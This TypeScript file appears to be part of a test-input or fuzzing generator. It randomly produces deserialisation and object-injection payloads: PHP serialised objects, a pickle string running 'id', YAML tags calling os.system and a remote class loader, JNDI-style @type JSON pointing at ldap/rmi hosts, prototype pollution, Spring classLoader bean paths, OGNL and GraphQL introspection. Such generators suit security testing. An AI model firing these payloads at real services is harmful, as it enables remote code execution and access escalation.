import type { Random } from "../random.ts"
import { hexDigits, hostName, identifier, oneOf } from "./grammar.ts"

/**
 * Text of which a careless reader makes objects of the sender's choice: formats of serialised
 * objects (PHP, Java, .NET, Python), types named in YAML and JSON, prototypes of JavaScript, beans.
 */
export function objectAttack(random: Random): string {
  return oneOf(random, [
    phpObject,
    phpObject,
    binaryObject,
    yamlObject,
    typedJson,
    prototypePollution,
    prototypePollution,
    beanPath,
    introspection,
  ])
}

/** serialize() of PHP: a class, and its members by length. */
function phpObject(random: Random): string {
  const name = random.pick(["Logger", "stdClass", "SplObjectStorage", "PDO", identifier(random)])
  const member = () => {
    const [key, value] = [identifier(random), random.pick(["id", "shell.php", identifier(random)])]
    return `s:${key.length}:"${key}";${random.pick([`s:${value.length}:"${value}";`, `i:${random.below(99)};`, "b:1;", "N;"])}`
  }
  const count = random.between(1, 4)
  const object = `${random.pick(["O", "O", "C"])}:${random.pick(["", "+"])}${name.length}:"${name}":${count}:{${random.many(count, member)}}`
  return random.chance(0.3) ? `a:1:{i:0;${object}}` : object
}

/** The first bytes of ObjectOutputStream, BinaryFormatter and pickle, and what may follow. */
function binaryObject(random: Random): string {
  const rest = btoa(
    random.many(random.between(6, 40), () => String.fromCharCode(random.below(256))),
  )
  return random.pick([
    `rO0ABXNy${rest}`,
    `rO0ABXVy${rest}`,
    `AAEAAAD/////AQAAAAAAAAAM${rest}`,
    `gASV${rest}`,
    `gAJj${rest}`,
    `aced00057372${hexDigits(random, 20)}`,
    `__VIEWSTATE=/wE${rest}`,
    `cos\nsystem\n(S'${random.pick(["id", "whoami", "ls"])}'\ntR.`,
  ])
}

function yamlObject(random: Random): string {
  return random.pick([
    `!!python/object/apply:${random.pick(["os.system", "subprocess.check_output", "builtins.eval"])} ["${random.pick(["id", "whoami"])}"]`,
    '!!python/object/new:type\nargs: ["z", !!python/tuple [], {"extend": !!python/name:exec }]',
    `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${hostName(random)}/"]]]]`,
    "!ruby/object:Gem::Installer\ni: x",
    `--- !ruby/hash:ActionController::Parameters\n${identifier(random)}: 1`,
  ])
}

function typedJson(random: Random): string {
  const url = `${random.pick(["ldap", "rmi"])}://${hostName(random)}/${identifier(random)}`
  return random.pick([
    `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"${url}","autoCommit":true}`,
    `{"@type":"java.net.Inet4Address","val":"${hostName(random)}"}`,
    `{"@type":"java.lang.Class","val":"${identifier(random)}"}`,
    `["org.springframework.context.support.ClassPathXmlApplicationContext","http://${hostName(random)}/x.xml"]`,
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
    '{"py/object":"os.system","py/reduce":[{"py/type":"os.system"}]}',
    `{"class":"ch.qos.logback.core.db.JNDIConnectionSource","jndiLocation":"${url}"}`,
  ])
}

function prototypePollution(random: Random): string {
  const key = random.pick(["isAdmin", "admin", "role", "shell", "status", identifier(random)])
  const value = random.pick(["true", "1", `"${identifier(random)}"`])
  const plain = value.replaceAll('"', "")
  return random.pick([
    `{"__proto__":{"${key}":${value}}}`,
    `{"constructor":{"prototype":{"${key}":${value}}}}`,
    `__proto__[${key}]=${plain}`,
    `__proto__.${key}=${plain}`,
    `constructor[prototype][${key}]=${plain}`,
    `constructor.prototype.${key}=${plain}`,
    `{"${identifier(random)}":{"__proto__":{"${key}":${value}}}}`,
    `?__proto__[${key}]=${plain}`,
  ])
}

/** Properties of a bean that lead to the class loader, and parameters that name a method. */
function beanPath(random: Random): string {
  return random.pick([
    `class.module.classLoader.resources.context.parent.pipeline.first.${random.pick(["pattern", "suffix", "directory", "prefix"])}=${identifier(random)}`,
    `class.classLoader.${random.pick(["URLs[0]", "resources.dirContext.docBase"])}=${identifier(random)}`,
    "spring.cloud.function.routing-expression:T(java.lang.Runtime)",
    `redirect:\${${random.below(99)}*${random.below(99)}}`,
    "method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
  ])
}

function introspection(random: Random): string {
  return random.pick([
    '{"query":"{__schema{types{name fields{name}}}}"}',
    "query{__schema{queryType{name}mutationType{name}}}",
    "query IntrospectionQuery{__schema{directives{name args{name}}}}",
    `{__type(name:"${random.pick(["User", "Query", identifier(random)])}"){fields{name}}}`,
    "query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
  ])
}
